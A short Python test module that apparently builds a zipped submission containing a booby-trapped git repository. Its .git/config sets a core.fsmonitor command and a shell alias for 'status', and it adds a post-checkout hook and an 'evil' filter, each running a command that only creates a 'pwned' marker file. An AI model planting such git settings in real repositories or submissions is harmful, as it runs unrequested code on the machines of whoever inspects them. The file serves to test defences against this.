"""Hands in a repository whose settings and hooks run a program when git looks at it (measured: core.fsmonitor)."""

from archives import zipped

CONFIG = '[core]\n\tfsmonitor = "touch {folder}/pwned"\n\thooksPath = hooks\n[alias]\n\tstatus = "!touch {folder}/pwned"\n'


def hand_in(folder, work, targets):
    config = CONFIG.format(folder=targets["folder"])
    hook = f"#!/bin/sh\ntouch {targets['folder']}/pwned\n"
    zipped(folder, {"line.py": work, ".git/config": config, ".git/HEAD": "ref: refs/heads/main\n", ".git/hooks/post-checkout": hook, ".gitattributes": "* filter=evil\n"})


WORTH, WORDS = 100, ".git"
